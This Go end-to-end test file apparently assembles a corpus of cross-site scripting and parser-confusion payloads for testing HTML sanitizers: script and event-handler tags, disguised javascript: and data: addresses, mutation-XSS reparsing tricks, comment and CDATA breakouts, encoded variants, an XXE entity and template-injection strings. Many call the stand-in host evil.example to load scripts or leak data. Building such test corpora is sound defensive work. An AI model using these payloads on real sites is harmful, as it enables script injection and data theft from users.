package e2e

import (
	"encoding/base64"
	"strings"
)

// canary is what every hostile script does: the page then shows that it ran.
const canary = "top.__hit=1"

// payloads are strings that have fooled sanitizers, filters and parsers, each with a script or
// a request that shows when it gets through.
func payloads() []string {
	var all []string
	for _, list := range [][]string{markup(), addresses(), reparsed(), breakouts(), encoded(), oddities()} {
		for _, payload := range list {
			all = append(all, strings.ReplaceAll(payload, "JS", canary))
		}
	}
	return all
}

// markup are elements that run scripts, fetch something or change the page.
func markup() []string {
	return []string{
		`<script>JS</script>`,
		`<script>alert(1);document.title="hit"</script>`,
		`<SCRIPT SRC=//evil.example/leak.js></SCRIPT>`,
		`<script xmlns="http://www.w3.org/1999/xhtml">JS</script>`,
		`<img src="/leak.png" onerror="JS"/>`,
		`<img/src=x/onerror=JS>`,
		`<svg onload="JS"><script>JS</script><use href="//evil.example/leak.svg#a"/></svg>`,
		`<svg><animate onbegin="JS" attributeName="x" dur="1s"/><a xlink:href="javascript:JS"><text>a</text></a></svg>`,
		`<math><mtext><mglyph><style><img src="/leak.png" onerror="JS"/></style></mglyph></mtext></math>`,
		`<math href="javascript:JS">a</math>`,
		`<iframe src="javascript:JS" srcdoc="&lt;script&gt;JS&lt;/script&gt;"></iframe>`,
		`<object data="//evil.example/leak" type="text/html"></object><embed src="/leak.swf"/>`,
		`<base href="//evil.example/"/><link rel="stylesheet" href="/leak.css"/>`,
		`<meta http-equiv="refresh" content="0;url=//evil.example/leak"/>`,
		`<form action="//evil.example/leak"><input autofocus="" onfocus="JS"/><button formaction="javascript:JS">a</button></form>`,
		`<style>@import "//evil.example/leak.css";*{background:url(/leak.png)}</style>`,
		`<p style="background:url(//evil.example/leak.png)" onmouseover="JS">a</p>`,
		`<video src="/leak.mp4" onerror="JS"><source onerror="JS"/></video><audio src="/leak.mp3"/>`,
		`<details open="" ontoggle="JS"><summary>a</summary></details>`,
		`<body onload="JS" background="/leak.png"><marquee onstart="JS">a</marquee></body>`,
		`<input type="image" src="/leak.png"/><isindex action="javascript:JS"/>`,
		`<template shadowrootmode="open"><script>JS</script></template>`,
		`<xss onfocus="JS" autofocus="" tabindex="1" contenteditable="">a</xss>`,
		`<picture><source srcset="/leak.png"/><img srcset="//evil.example/leak.png 1x" src=""/></picture>`,
		`<portal src="//evil.example/leak"></portal><frameset onload="JS"><frame src="/leak"/></frameset>`,
	}
}

// addresses are addresses that run or hold scripts, in disguise.
func addresses() []string {
	return []string{
		`javascript:JS`,
		`JaVaScRiPt:JS`,
		"java\tscript:JS", "java\nscript:JS", "java\r\nscript:JS",
		" \u00a0javascript:JS", "\u0001javascript:JS", "\u200bjavascript:JS", "\ufeffjavascript:JS",
		`javascript&colon;JS`, `&#106;avascript:JS`, `&#0000106avascript:JS`, `javascript&#x3a;JS`,
		`javascript://example.se/%0aJS`, `javascript:https://example.se/;JS`,
		`data:text/html,<script>JS</script>`,
		`data:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte("<script>"+canary+"</script>")),
		`vbscript:msgbox(1)`, `blob:https://example.se/1`, `filesystem:https://example.se/1`, `view-source:javascript:JS`, `feed:javascript:JS`,
		`//evil.example/leak`, `\\evil.example\leak`, `/\evil.example/leak`, `https:evil.example`, `https:///evil.example`,
		`https://example.se@evil.example/`, `https://example.se\@evil.example/`, `https://example.se" onclick="JS`,
		`https://example.se/'onmouseover='JS`, `https://example.se/?a=<script>JS</script>`, "https://example.se/\x00javascript:JS",
		`mailto:a@example.se?body=<script>JS</script>`, `tel:1"><script>JS</script>`, `www.example.se"><img src=/leak.png onerror=JS>`,
	}
}

// reparsed are strings that one parser takes for harmless and another, or the same one the
// second time, does not.
func reparsed() []string {
	return []string{
		`<noscript><p title="</noscript><img src=x onerror=JS>">`,
		`<noscript><style></noscript><img src="/leak.png" onerror="JS"/></style></noscript>`,
		`<title><a title="</title><script>JS</script>">a</a></title>`,
		`<textarea><a title="</textarea><svg onload=JS>">a</a></textarea>`,
		`<style><a title="</style><script>JS</script>">a</a></style>`,
		`<xmp><p title="</xmp><script>JS</script>">a</p></xmp>`,
		`<noembed><p title="</noembed><script>JS</script>">a</p></noembed><plaintext><script>JS</script>`,
		`<svg><p><style><a id="</style><img src=/leak.png onerror=JS>"></a></style></p></svg>`,
		`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>`,
		`<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">`,
		`<select><template><style><!--</style><img src=x onerror=JS>--></template></select>`,
		`<svg></p><style><g title="</style><img src onerror=JS>">`,
		`<a><table><a href="javascript:JS">a</a></table></a>`,
	}
}

// breakouts leave the comment, section, instruction, declaration or quotes they stand in.
func breakouts() []string {
	return []string{
		`--><script>JS</script><!--`, `--!><img src=x onerror=JS>`, `<!--><script>JS</script>-->`, `<!--[if gte IE 4]><script>JS</script><![endif]-->`,
		`]]><script>JS</script><![CDATA[`, `<![CDATA[<]]>script<![CDATA[>]]>JS<![CDATA[<]]>/script<![CDATA[>]]>`,
		`?><script>JS</script><?php `, `<?xml-stylesheet type="text/xsl" href="//evil.example/leak.xsl"?>`,
		`" onclick="JS" x="`, `' autofocus onfocus='JS`, "` onerror=`JS", `"><script>JS</script>`, `'/><img src=/leak.png onerror=JS>`, `/><svg/onload=JS>`,
		`</para></article><script>JS</script>`, `</div></article></main></body></html><script>JS</script>`, `</p></textarea></title></style></script><script>JS</script>`,
		`<!DOCTYPE a [<!ENTITY e SYSTEM "http://evil.example/leak">]>&e;`, `&e;&lt;script&gt;`, `<xi:include href="http://evil.example/leak" xmlns:xi="http://www.w3.org/2001/XInclude"/>`,
	}
}

// encoded are the same in other clothes.
func encoded() []string {
	return []string{
		`&lt;script&gt;JS&lt;/script&gt;`, `&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;`, `&#60;script&#62;JS&#60;/script&#62;`,
		`&#x3c;img src=x onerror=JS&#x3e;`, `&ltscript&gtJS&lt/script&gt`, `&amp;#60;img src=x onerror=JS&amp;#62;`,
		`%3Cscript%3EJS%3C/script%3E`, `\u003cscript\u003eJS\u003c/script\u003e`, `\x3cscript\x3eJS`,
		`+ADw-script+AD4-JS+ADw-/script+AD4-`, "\xc0\xbcscript\xc0\xbeJS", "\x1b$B<script>\x1b(BJS</script>", "<\x00script>JS</script>", "&#0;<script>JS</script>",
		"\uff1cscript\uff1eJS\uff1c/script\uff1e", "\u02bascript\u203aJS", "<scr\u00adipt>JS</script>", "<\u0130mg src=x onerror=JS>",
	}
}

// oddities confuse readers, templates and lengths.
func oddities() []string {
	return []string{
		"\u202e>tpircs/<JS>tpircs<\u202c", "\u2066\u2028\u2029<script>JS</script>\u2069", "\ufffe\uffff\ufdd0<script>JS</script>", "\ud7ff\ue000",
		`{{constructor.constructor('JS')()}}`, `${JS}`, `<%= JS %>`, `[[${JS}]]`, `#{JS}`, `{% raw %}<script>JS</script>{% endraw %}`, `@(JS)`,
		strings.Repeat(`<b>`, 500) + `<script>JS</script>`, strings.Repeat("a", 5_000) + `"><script>JS</script>`, strings.Repeat("&lt;", 2_000) + `script>JS`,
		`constructor`, `__proto__`, `<form id="__hit"><input name="getElementById"/></form>`, `xlink:href`, `xmlns`, `onclick`, `srcdoc`,
	}
}
